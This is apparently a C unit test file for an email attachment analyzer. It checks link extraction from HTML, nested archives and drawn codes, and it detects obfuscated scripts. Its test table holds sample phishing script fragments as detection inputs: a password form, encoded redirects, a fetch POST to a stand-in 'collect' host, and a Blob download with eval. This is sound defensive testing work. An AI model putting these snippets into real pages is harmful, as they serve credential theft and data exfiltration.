/* What comes with a mail becomes facts that say where they stand.  Foreign files are opened by a stand-in. */
#include "facts/facts.h"

#include "base/limits.h"
#include "with_intel.h"

/* Remembers what it was asked, and answers as told. */
struct stand_in {
    enum sg_opened answer;
    struct sg_unpacked unpacked;
    size_t n_asked;
    enum sg_file_kind kind;
    sg_span octets;
};

static enum sg_opened stand_in_open(void *with, struct sg_arena *in, enum sg_file_kind kind,
                                    sg_span octets, struct sg_unpacked *out)
{
    struct stand_in *s = with;
    (void)in;
    s->n_asked++;
    s->kind = kind;
    s->octets = octets;
    *out = s->unpacked;
    return s->answer;
}

static const struct sg_facts *facts_of(const char *mail, struct stand_in *stand_in)
{
    static struct sg_opener opener;
    static struct sg_envelope envelope;
    opener = (struct sg_opener){ stand_in, stand_in_open };
    envelope = (struct sg_envelope){ .opener = stand_in == NULL ? NULL : &opener };
    return sg_facts_open(arena, intel, &envelope, sg_span_of(mail));
}

#define HEAD                                                                                              \
    "From: a@mail.invalid\r\nTo: b@example.jp\r\nSubject: x\r\nDate: Wed, 25 Nov 2026 10:00:00 +0900\r\n" \
    "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"                          \
    "--b\r\nContent-Type: text/plain\r\n\r\nsee the file\r\n"
#define FILE_HEAD(type, name)                                                            \
    "--b\r\nContent-Type: " type "\r\nContent-Disposition: attachment; filename=\"" name \
    "\"\r\n\r\n"
#define END "\r\n--b--\r\n"

static void a_page_is_read_and_its_links_stand_in_it(void **state)
{
    (void)state;
    const struct sg_facts *f = facts_of(
        HEAD FILE_HEAD(
            "text/html",
            "bill.html") "<html><form action='https://a.test/p'><input type=password></form></html>" END,
        NULL);
    assert_int_equal(f->n_attachments, 1);
    const struct sg_attachment *a = f->attachments[0];
    assert_int_equal(a->kind, SG_FILE_HTML);
    assert_int_equal(a->state, SG_ATTACHMENT_READ);
    assert_non_null(a->page);
    assert_true(a->page->asks_password);
    assert_true(f->has_ask);
    assert_int_equal(f->n_links, 1);
    assert_int_equal(f->links[0].where, SG_LINK_IN_ATTACHMENT);
    assert_ptr_equal(f->links[0].attachment, a);
    struct sg_stand stand = sg_stand_of(f, f->links[0].place);
    assert_null(stand.content);
    assert_ptr_equal(stand.attachment, a);
    assert_span_is(sg_cut(f->mail->bytes, stand.in_mail.from, stand.in_mail.len),
                   "https://a.test/p");
}

static void nobody_opens_what_needs_an_opener(void **state)
{
    (void)state;
    const char *mail = HEAD FILE_HEAD("image/gif", "a.gif") "GIF89a..." END;
    assert_int_equal(facts_of(mail, NULL)->attachments[0]->state, SG_ATTACHMENT_NOBODY);
    struct stand_in dies = { .answer = SG_OPEN_LOST };
    assert_int_equal(facts_of(mail, &dies)->attachments[0]->state, SG_ATTACHMENT_LOST);
    assert_int_equal(dies.n_asked, 1);
}

static void a_code_says_where_it_was_found(void **state)
{
    (void)state;

    static const struct sg_item items[] = {
        { SG_ITEM_LINK, 2, false, { NULL, 0 }, SG_SPAN_INIT("https://b.test/") },
        { SG_ITEM_CODE, 3, false, { NULL, 0 }, SG_SPAN_INIT("HTTPS://C.TEST/x") },
        { SG_ITEM_CODE, 0, false, { NULL, 0 }, SG_SPAN_INIT("WIFI:S:guest;P:secret;;") },
    };
    struct stand_in opens = { .answer = SG_OPENED, .unpacked = { items, 3, 0, 3 } };
    const struct sg_facts *f =
        facts_of(HEAD FILE_HEAD("image/gif", "a.gif") "GIF89a..." END, &opens);
    assert_int_equal(opens.kind, SG_FILE_GIF);
    assert_int_equal(f->n_links, 2);
    assert_int_equal(f->links[0].where, SG_LINK_IN_ATTACHMENT);
    assert_int_equal(f->links[1].where, SG_LINK_IN_CODE);
    assert_span_is(f->links[1].target.host.ascii, "c.test");
    struct sg_stand stand = sg_stand_of(f, f->links[1].place);
    assert_non_null(stand.content);
    assert_int_equal(stand.content->page, 3);
    assert_int_equal(stand.content->how, SG_CONTENT_CODE);
    assert_span_is(stand.attachment->name, "a.gif");
    assert_span_is(sg_cut(f->mail->bytes, stand.in_mail.from, 9), "GIF89a...");
}

static void a_file_in_a_file_is_opened_in_turn(void **state)
{
    (void)state;

    static const struct sg_item items[] = {
        { SG_ITEM_NAME, 0, true, SG_SPAN_INIT("locked.exe"), { NULL, 0 } },
        { SG_ITEM_FILE, 0, false, SG_SPAN_INIT("in/index.html"),
          SG_SPAN_INIT("<html><a href='https://d.test/'>go</a></html>") },
    };
    struct stand_in opens = { .answer = SG_OPENED,
                              .unpacked = { items, 2, SG_UNPACK_ENCRYPTED, 0 } };
    const struct sg_facts *f =
        facts_of(HEAD FILE_HEAD("application/zip", "a.zip") "PK\3\4\24" END, &opens);
    assert_int_equal(f->n_attachments, 2);
    assert_span_is(f->attachments[1]->name, "a.zip/in/index.html");
    assert_ptr_equal(f->attachments[1]->within, f->attachments[0]);
    assert_int_equal(f->n_links, 1);
    assert_ptr_equal(f->links[0].attachment, f->attachments[1]);
    struct sg_stand stand = sg_stand_of(f, f->links[0].place);
    assert_int_equal(stand.content->how, SG_CONTENT_FILE);
    assert_span_is(sg_cut(stand.content->octets, stand.in_content.from, stand.in_content.len),
                   "https://d.test/");
}

static void nested_files_end_at_a_limit(void **state)
{
    (void)state;

    static const struct sg_item items[] = { { SG_ITEM_FILE, 0, false, SG_SPAN_INIT("a.zip"),
                                              SG_SPAN_INIT("PK\3\4 the same again") } };
    struct stand_in opens = { .answer = SG_OPENED, .unpacked = { items, 1, 0, 0 } };
    const struct sg_facts *f =
        facts_of(HEAD FILE_HEAD("application/zip", "a.zip") "PK\3\4\24" END, &opens);
    assert_int_equal(f->n_attachments, SG_MAX_NESTING + 1);
    assert_false(f->is_complete);
}

/* ---- scripts ---- */

struct script {
    const char *script;
    unsigned tricks;
    const char *host; /* that a link leads to, or NULL */
};

static const struct sg_facts *facts_of_script(const char *script)
{
    struct sg_buf mail = SG_BUF_IN(arena, 1 << 20);
    sg_put_text(&mail, HEAD FILE_HEAD("text/html", "a.html") "<html><script>");
    sg_put_text(&mail, script);
    sg_put_text(&mail, "</script></html>" END);
    sg_put_octet(&mail, 0);
    return facts_of((const char *)mail.at, NULL);
}

static void what_a_script_does_and_hides_is_seen(void **state)
{
    (void)state;

    static const struct script rows[] = {
        { "var a = 1; // atob and location are words", 0, NULL },
        { "if (location == top) alert('x')", 0, NULL },
        { "document.write(unescape('%3Chtml%3E%3Ca%20href%3D%22https%3A%2F%2Fe.test%2F%22%3Ex%3C%2Fa%3E'))",
          SG_TRICK_WRITES | SG_TRICK_DECODES | SG_TRICK_HIDES, "e.test" },
        { "x=atob('PGh0bWw+PGJvZHk+PGEgaHJlZj0iaHR0cHM6Ly9mLnRlc3QvbG9naW4iPng8L2E+PC9ib2R5PjwvaHRtbD4=')",
          SG_TRICK_DECODES | SG_TRICK_HIDES, "f.test" },
        { "x=atob('PGh0bWw+PGJvZHk+PGEgaHJlZj0iaHR0' +\n \"cHM6Ly9mLnRlc3QvbG9naW4iPng8L2E+PC9ib2R5PjwvaHRtbD4=\")",
          SG_TRICK_DECODES | SG_TRICK_HIDES, "f.test" },
        { "s='\\x3chtml\\x3e\\x3ca href=\\x22https://g.test/\\x22\\x3ex\\x3c/a\\x3e\\x3c/html\\x3e'",
          SG_TRICK_HIDES, "g.test" },
        { "String.fromCharCode(60,97,32,104,114,101,102,61,39,104,116,116,112,115,58,47,47,104,46,116,101,"
          "115,116,47,39,62,120,60,47,97,62)",
          SG_TRICK_DECODES | SG_TRICK_HIDES, "h.test" },
        { "window.location.href = \"https://i.test/next\";", SG_TRICK_REDIRECTS, "i.test" },
        { "fetch('https://j.test/collect', {method: 'POST'})", SG_TRICK_POSTS, "j.test" },
        { "var b = new Blob([x]); a.href = URL.createObjectURL(b); a.download = 'x.zip'; eval(y)",
          SG_TRICK_BLOB | SG_TRICK_SAVES | SG_TRICK_EVALUATES, NULL },
        { "'\\'\\'\\'\\' never ends", 0, NULL },
        { "'", 0, NULL },
    };
    for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
        const struct sg_facts *f = facts_of_script(rows[i].script);
        if (f->attachments[0]->tricks != rows[i].tricks)
            fail_msg("row %zu: tricks %x", i, f->attachments[0]->tricks);
        bool leads = rows[i].host == NULL;
        for (size_t k = 0; k < f->n_links; k++)
            leads |= rows[i].host != NULL &&
                     sg_same(f->links[k].target.host.ascii, sg_span_of(rows[i].host));
        if (!leads)
            fail_msg("row %zu: no link to %s", i, rows[i].host);
        if (rows[i].host == NULL)
            assert_int_equal(f->n_links, 0);
    }
}

static void a_million_quotes_are_read_in_one_walk(void **state)
{
    (void)state;
    struct sg_buf script = SG_BUF_IN(arena, 1 << 20);
    for (int i = 0; i < 300000; i++)
        sg_put_text(&script, "\\'");
    sg_put_octet(&script, 0);
    assert_int_equal(facts_of_script((const char *)script.at)->attachments[0]->tricks, 0);
}

/* ---- drawn codes ---- */

static const char *const code[] = { /* what is drawn need not be a code here: the opener's to say */
                                    "##  ##  ##  ##  ##  ##", "  ##  ##  ##  ##  ##  "
};

static void rows_of_letters_become_a_picture(void **state)
{
    (void)state;
    struct sg_buf mail = SG_BUF_IN(arena, 1 << 16);
    sg_put_text(&mail, "From: a@mail.invalid\r\nSubject: x\r\n\r\nscan:\r\n");
    for (int i = 0; i < 22; i++) {
        sg_put_text(&mail, code[i % 2]);
        sg_put_text(&mail, "\r\n");
    }
    sg_put_octet(&mail, 0);
    struct stand_in opens = { .answer = SG_OPENED };
    const struct sg_facts *f = facts_of((const char *)mail.at, &opens);
    assert_int_equal(opens.n_asked, 1);
    assert_int_equal(opens.kind, SG_FILE_GREYMAP);
    assert_true(sg_starts(opens.octets, SG_SPAN("P5\n120 ")));
    assert_int_equal(f->contents[0]->how, SG_CONTENT_DRAWN);
}

static void a_rule_of_letters_is_no_picture(void **state)
{
    (void)state;
    struct stand_in opens = { .answer = SG_OPENED };
    (void)facts_of("From: a@mail.invalid\r\nSubject: x\r\n\r\n"
                   "################################\r\n#  お知らせ  ####################\r\n"
                   "################################\r\n################################\r\n"
                   "################################\r\n################################\r\n",
                   &opens);
    assert_int_equal(opens.n_asked, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_page_is_read_and_its_links_stand_in_it),
        cmocka_unit_test(nobody_opens_what_needs_an_opener),
        cmocka_unit_test(a_code_says_where_it_was_found),
        cmocka_unit_test(a_file_in_a_file_is_opened_in_turn),
        cmocka_unit_test(nested_files_end_at_a_limit),
        cmocka_unit_test(what_a_script_does_and_hides_is_seen),
        cmocka_unit_test(a_million_quotes_are_read_in_one_walk),
        cmocka_unit_test(rows_of_letters_become_a_picture),
        cmocka_unit_test(a_rule_of_letters_is_no_picture),
    };
    return cmocka_run_group_tests(tests, load_intel, unload_intel);
}
